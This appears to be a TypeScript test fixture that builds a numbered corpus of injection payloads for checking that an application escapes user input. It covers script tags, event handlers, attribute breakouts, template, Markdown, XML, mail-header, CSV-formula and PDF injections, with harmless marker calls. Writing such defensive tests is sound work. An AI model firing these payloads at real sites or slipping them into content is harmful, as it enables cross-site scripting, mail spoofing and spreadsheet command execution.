// A corpus of hostile strings: script injection in HTML, attributes, URLs, Markdown, templates, XML feeds, mail
// headers, CSV and PDF text. Each one that would run calls `__pwned(<n>)` or `alert(<n>)` with its own number, and
// each one that would make an element gives it `data-pwn`, so a test can tell that something got through (the
// marker fired, or an element with `data-pwn` exists) and which payload it was.
//
// Every payload is at most 190 characters (an incident title takes 200), except the long word, which goes only
// into the long text fields.

export interface Payload {
  n: number;
  name: string;
  text: string;
}

const list: Array<[string, (n: number) => string]> = [
  ['script tag', (n) => `<script data-pwn>__pwned(${n})</script>`],
  ['script tag, upper case', (n) => `<SCRIPT data-pwn>alert(${n})</SCRIPT>`],
  ['img onerror', (n) => `<img data-pwn src=x onerror="__pwned(${n})">`],
  ['img onerror, no quotes', (n) => `<img data-pwn src=x onerror=__pwned(${n})>`],
  ['svg onload', (n) => `<svg data-pwn onload="__pwned(${n})"></svg>`],
  ['svg script', (n) => `<svg data-pwn><script>__pwned(${n})</script></svg>`],
  ['body onload', (n) => `<body data-pwn onload=__pwned(${n})>`],
  ['details ontoggle', (n) => `<details data-pwn open ontoggle=__pwned(${n})>x</details>`],
  ['input autofocus onfocus', (n) => `<input data-pwn autofocus onfocus=__pwned(${n})>`],
  ['video source onerror', (n) => `<video data-pwn><source onerror="__pwned(${n})"></video>`],
  ['iframe srcdoc', (n) => `<iframe data-pwn srcdoc="<script>top.__pwned(${n})</script>"></iframe>`],
  ['iframe javascript src', (n) => `<iframe data-pwn src="javascript:top.__pwned(${n})"></iframe>`],
  ['object data', (n) => `<object data-pwn data="javascript:__pwned(${n})"></object>`],
  ['embed src', (n) => `<embed data-pwn src="javascript:__pwned(${n})">`],
  [
    'style expression',
    (n) => `<style data-pwn>*{background:url("javascript:__pwned(${n})");x:expression(alert(${n}))}</style>`,
  ],
  ['style attribute', (n) => `<div data-pwn style="width:expression(alert(${n}))">x</div>`],
  ['link stylesheet', (n) => `<link data-pwn rel=stylesheet href="javascript:__pwned(${n})">`],
  ['meta refresh', (n) => `<meta data-pwn http-equiv="refresh" content="0;url=javascript:__pwned(${n})">`],
  ['base href', (n) => `<base data-pwn href="javascript:__pwned(${n})//">`],
  ['form action', (n) => `<form data-pwn action="javascript:__pwned(${n})"><button>go</button></form>`],
  ['anchor javascript href', (n) => `<a data-pwn href="javascript:__pwned(${n})">click</a>`],
  ['attribute breakout, double quote', (n) => `"><img data-pwn src=x onerror=__pwned(${n})>`],
  ['attribute breakout, single quote', (n) => `'><img data-pwn src=x onerror=__pwned(${n})>`],
  ['attribute breakout, event', (n) => `" data-pwn autofocus onfocus="__pwned(${n})" x="`],
  ['js string breakout', (n) => `'-alert(${n})-'`],
  ['js string breakout, double', (n) => `";__pwned(${n});//`],
  ['script close in JSON', (n) => `</script><script data-pwn>__pwned(${n})</script>`],
  ['title close', (n) => `</title><script data-pwn>__pwned(${n})</script>`],
  ['textarea close', (n) => `</textarea><img data-pwn src=x onerror=__pwned(${n})>`],
  ['style close', (n) => `</style><img data-pwn src=x onerror=__pwned(${n})>`],
  ['HTML comment close', (n) => `--><img data-pwn src=x onerror=__pwned(${n})><!--`],
  ['template injection', (n) => `{{constructor.constructor('__pwned(${n})')()}}`],
  ['template injection, triple', (n) => `{{{constructor.constructor('alert(${n})')()}}}`],
  ['JSX-ish expression', (n) => `\${__pwned(${n})} {__pwned(${n})} <%= __pwned(${n}) %>`],
  ['CDATA end in feeds', (n) => `]]><script data-pwn>__pwned(${n})</script><![CDATA[`],
  [
    'XML entity',
    (n) => `<!DOCTYPE x [<!ENTITY pwn "${n}">]>&pwn; &lt;img data-pwn src=x onerror=__pwned(${n})&gt;`,
  ],
  [
    'HTML entities',
    (n) => `&lt;img data-pwn src=x onerror=__pwned(${n})&gt; &#60;script&#62;alert(${n})&#60;/script&#62;`,
  ],
  ['entity-encoded javascript URL', (n) => `[entity](jav&#x61;script&#58;__pwned(${n}))`],
  ['Markdown javascript link', (n) => `[click me](javascript:__pwned(${n}))`],
  ['Markdown javascript link, mixed case', (n) => `[click](JaVaScRiPt:__pwned(${n}))`],
  ['Markdown javascript link, whitespace', (n) => `[click](  javascript:__pwned(${n}) )`],
  ['Markdown data link', (n) => `[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgx${n}KTwvc2NyaXB0Pg==)`],
  ['Markdown vbscript link', (n) => `[vb](vbscript:msgbox(${n}))`],
  ['Markdown image onerror', (n) => `![x" onerror="__pwned(${n})](https://example.invalid/x.png)`],
  ['Markdown image javascript', (n) => `![pic](javascript:__pwned(${n}))`],
  ['Markdown autolink javascript', (n) => `<javascript:__pwned(${n})>`],
  ['Markdown link title breakout', (n) => `[t](https://example.org "x\\" onmouseover=\\"__pwned(${n})")`],
  ['Markdown reference link', (n) => `[ref][p${n}]\n\n[p${n}]: javascript:__pwned(${n})`],
  ['Markdown raw HTML block', (n) => `<div data-pwn onclick="__pwned(${n})">\n\n**bold**\n\n</div>`],
  ['data URL', (n) => `data:text/html,<script>__pwned(${n})</script>`],
  ['javascript URL, bare', (n) => `javascript:__pwned(${n})`],
  ['RTL override', (n) => `invoice\u202Egnp.exe\u202C <b data-pwn>${n}</b>`],
  ['null byte', (n) => `nul\u0000byte<scr\u0000ipt data-pwn>__pwned(${n})</script>`],
  ['zero width and BOM', (n) => `\uFEFFzero\u200Bwidth<img data-pwn src=x o\u200Bnerror=__pwned(${n})>`],
  ['mail header injection', (n) => `Name ${n}\r\nBcc: victim${n}@example.org\r\nSubject: injected`],
  [
    'mail header injection, LF',
    (n) => `Name ${n}\nContent-Type: text/html\n\n<script data-pwn>__pwned(${n})</script>`,
  ],
  ['CSV formula', (n) => `=HYPERLINK("https://evil.example/?${n}","x")`],
  ['CSV formula, plus and at', (n) => `+cmd|' /C calc'!A${n} @SUM(1+${n})`],
  ['PDF operator', (n) => `) Tj ET BT /F1 99 Tf (pwned ${n}) Tj ET q`],
  ['PDF backslash', (n) => `\\) \\( \\\\ %PDF-1.7 %%EOF ${n}`],
  ['unicode escapes', (n) => `\\u003cscript\\u003e__pwned(${n})\\u003c/script\\u003e`],
  [
    'polyglot',
    (n) =>
      `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=__pwned(${n}) )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=__pwned(${n})//>\\x3e`,
  ],
];

export const PAYLOADS: Payload[] = list.map(([name, make], i) => ({ n: i + 1, name, text: make(i + 1) }));

/**
 * The corpus as the API stores it: a NUL byte is refused with a 400 (nul.test.ts checks that), so the stored texts
 * carry U+2400 (the NUL symbol) where the payload has U+0000.
 */
export const STORABLE: Payload[] = PAYLOADS.map((p) => ({
  ...p,
  text: p.text.replaceAll('\u0000', '\u2400'),
}));

/** One word of 3,000 letters: must wrap, not widen the page or break a PDF line. */
export const LONG_WORD = `${'Donaudampfschifffahrtsgesellschaftskapitän'.repeat(72)}pwn`;

/** The payload with number n. */
export function payload(n: number): string {
  const p = PAYLOADS.find((x) => x.n === n);
  if (!p) throw new Error(`no payload ${n}`);
  return p.text;
}

/** A short tag that names the field a payload was put in, so a test can find it back on the page. */
export const tag = (field: string) => `[hx:${field}]`;
